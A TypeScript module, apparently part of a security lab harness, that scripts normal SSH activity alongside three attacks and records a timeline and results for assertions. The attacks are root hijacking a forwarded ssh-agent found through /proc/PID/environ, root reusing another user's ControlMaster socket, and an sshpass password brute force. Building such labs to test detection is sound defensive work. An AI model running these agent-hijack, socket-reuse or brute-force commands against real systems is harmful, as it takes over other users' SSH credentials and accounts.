import { MALLORY_PASSWORD, WRONG_PASSWORDS } from './config.js';
import { sleep, start, waitFor } from './exec.js';
import { asUser, getHost, type LabHost, runAs } from './hosts.js';
import { openInteractive } from './interactive.js';
import { isSocketInHost } from './rsyslog.js';
import { type LabState, saveState } from './state.js';

/** One step of the scripted activity, with its wall-clock time (epoch ms). */
export interface TimelineEntry {
  readonly time: number;
  readonly actor: string;
  readonly what: string;
  readonly attack: boolean;
}

/** What the scripted attacks found and did, for the assertions. */
export interface ActivityFacts {
  /** The agent socket root found in alice's shell environment on the bastion. */
  readonly agentSocket: string;
  /** Output of `id` run on app1 as alice through the hijacked agent. */
  readonly agentHijackOutput: string;
  /** bob's ControlMaster socket on the bastion. */
  readonly controlPath: string;
  /** Output of `id` run on db1 through bob's hijacked ControlMaster. */
  readonly controlHijackOutput: string;
  /** Output of `id` run on the bastion after the password was guessed. */
  readonly bruteForceOutput: string;
}

const AGENT_SOCK = '/tmp/alice-agent.sock';
const BOB_CONTROL = '/home/bob/.ssh/cm-db1';
/** Password-only client options (sshpass answers the one prompt). */
const PASSWORD_ONLY = [
  '-o',
  'PubkeyAuthentication=no',
  '-o',
  'PreferredAuthentications=password',
  '-o',
  'NumberOfPasswordPrompts=1',
  '-o',
  'BatchMode=no',
];

/**
 * The scripted day: legitimate work (agent forwarding with alice's own onward hop, bob's
 * ControlMaster used by bob, sftp, sudo, concurrent sessions, mistyped passwords) and three real
 * attacks (root on the bastion uses alice's forwarded agent found through /proc/PID/environ,
 * root reuses bob's ControlMaster socket, and a password brute force against mallory succeeds).
 */
export async function runActivity(
  state: LabState,
  hosts: ReadonlyMap<string, LabHost>,
): Promise<{ readonly timeline: readonly TimelineEntry[]; readonly facts: ActivityFacts }> {
  const ws = getHost(hosts, 'ws');
  const ext = getHost(hosts, 'ext');
  const timeline: TimelineEntry[] = [];
  const note = (actor: string, what: string, attack = false): void => {
    timeline.push({ time: Date.now(), actor, what, attack });
  };
  const pause = (): Promise<void> => sleep(1100);

  // alice's own agent on her workstation, with her key loaded.
  const agentArgv = [...asUser(ws, 'alice'), 'ssh-agent', '-D', '-a', AGENT_SOCK];
  const agent = start(agentArgv[0] ?? 'nsenter', agentArgv.slice(1));
  state.processes.push({ pid: agent.pid, marker: 'ssh-agent', what: 'ws alice ssh-agent' });
  saveState(state);
  await waitFor('alice agent', () => isSocketInHost(ws, AGENT_SOCK));
  const aliceEnv = { SSH_AUTH_SOCK: AGENT_SOCK };
  await runAs(ws, 'alice', ['ssh-add', '-q', '/home/alice/.ssh/id_ed25519'], { userEnv: aliceEnv });

  // Legitimate: alice mistypes her password twice for db1, then uses her key.
  for (const typo of ['alice2024', 'Alice2024']) {
    await runAs(ws, 'alice', ['sshpass', '-p', typo, 'ssh', ...PASSWORD_ONLY, 'db1', 'true'], {
      allowFailure: true,
    });
  }
  note('alice', 'two mistyped passwords for alice@db1 from ws (Failed password)');
  await runAs(ws, 'alice', ['ssh', 'db1', 'uptime'], { userEnv: aliceEnv });
  note('alice', 'alice@db1 with her key from ws: uptime');
  await pause();

  // Legitimate: alice forwards her agent to the bastion and hops on to app1 with it.
  const alice = await openInteractive(state, ws, 'alice', ['-A', 'bastion'], aliceEnv);
  note('alice', 'alice: ssh -A bastion (interactive shell, agent forwarded)');
  await alice.type('ssh app1 hostname');
  note(
    'alice',
    'alice on bastion: ssh app1 hostname (her own onward hop through her forwarded agent)',
  );
  await alice.type('sudo -n id');
  note('alice', 'alice on bastion: sudo -n id');
  await pause();

  // Legitimate: bob works on the bastion with a ControlMaster to db1, and uses sftp to app1.
  const bob = await openInteractive(state, ws, 'bob', ['bastion']);
  note('bob', 'bob: ssh bastion (interactive shell)');
  await bob.type(`ssh -M -S ${BOB_CONTROL} -o ControlPersist=600 -fN db1`);
  note('bob', `bob on bastion: ssh -M -S ${BOB_CONTROL} -fN db1 (his ControlMaster)`);
  await bob.type(`ssh -S ${BOB_CONTROL} db1 hostname`);
  note('bob', 'bob on bastion: ssh -S <his socket> db1 hostname (owner reuses his master)');
  await runAs(ws, 'bob', ['sftp', '-b', '-', 'app1'], {
    input: 'put /etc/hostname report.txt\nls -l\nbye\n',
  });
  note('bob', 'bob: sftp app1 from ws (put report.txt)');
  // Concurrent sessions: alice's bastion shell is open while she runs a command on db1.
  await runAs(ws, 'alice', ['ssh', 'db1', 'sleep 1; id'], { userEnv: aliceEnv });
  note('alice', 'alice@db1 from ws while her bastion shell is open (concurrent sessions)');
  await pause();

  // Attack (a): root on the bastion finds alice's forwarded agent through /proc/PID/environ.
  const root = await openInteractive(state, ext, 'root', ['bastion']);
  note('root', 'root logs in to bastion from ext (10.203.0.66) with a key', true);
  // The namespace check only keeps the search on this lab host (all hosts share one kernel).
  const discover = await root.type(
    'for p in $(pgrep -u alice -x bash); do [ "$(readlink /proc/$p/ns/mnt)" = "$(readlink /proc/self/ns/mnt)" ] && grep -az "^SSH_AUTH_SOCK=" /proc/$p/environ | tr "\\0" "\\n"; done | sed -n "s/^SSH_AUTH_SOCK=/SOCK:/p" | head -n 1',
  );
  const agentSocket = /SOCK:(\/tmp\/ssh-[^\s]+)/.exec(discover)?.[1];
  if (agentSocket === undefined)
    throw new Error(`root did not find alice's agent socket: ${discover}`);
  note('root', `root reads /proc/<alice bash>/environ: SSH_AUTH_SOCK=${agentSocket}`, true);
  await root.type(`SSH_AUTH_SOCK=${agentSocket} ssh-add -l`);
  const hijack = await root.type(`SSH_AUTH_SOCK=${agentSocket} ssh alice@app1 id`);
  note('root', 'root: SSH_AUTH_SOCK=<alice socket> ssh alice@app1 id (agent hijack)', true);
  await pause();

  // Attack (b): root reuses bob's ControlMaster socket (the mux master lets root in).
  const cm = await root.type(`ssh -S ${BOB_CONTROL} x id`);
  note(
    'root',
    `root: ssh -S ${BOB_CONTROL} x id (ControlMaster hijack, lands on db1 as bob)`,
    true,
  );
  await root.close();
  await pause();

  // Attack (c): a password brute force against mallory on the bastion from outside.
  for (const guess of WRONG_PASSWORDS) {
    await runAs(
      ext,
      'root',
      ['sshpass', '-p', guess, 'ssh', ...PASSWORD_ONLY, 'mallory@bastion', 'true'],
      {
        allowFailure: true,
      },
    );
  }
  note('ext', `${WRONG_PASSWORDS.length} wrong passwords for mallory@bastion from ext`, true);
  const brute = await runAs(ext, 'root', [
    'sshpass',
    '-p',
    MALLORY_PASSWORD,
    'ssh',
    ...PASSWORD_ONLY,
    'mallory@bastion',
    'id',
  ]);
  note('ext', 'the right password: mallory@bastion id (brute force succeeds)', true);
  await pause();

  // Everyone ends their work.
  await alice.type('hostname');
  await alice.close();
  note('alice', 'alice exits the bastion');
  await bob.type(`ssh -S ${BOB_CONTROL} -O exit db1`);
  await bob.close();
  note('bob', 'bob stops his ControlMaster and exits the bastion');
  return {
    timeline,
    facts: {
      agentSocket,
      agentHijackOutput: hijack,
      controlPath: BOB_CONTROL,
      controlHijackOutput: cm,
      bruteForceOutput: brute.stdout,
    },
  };
}
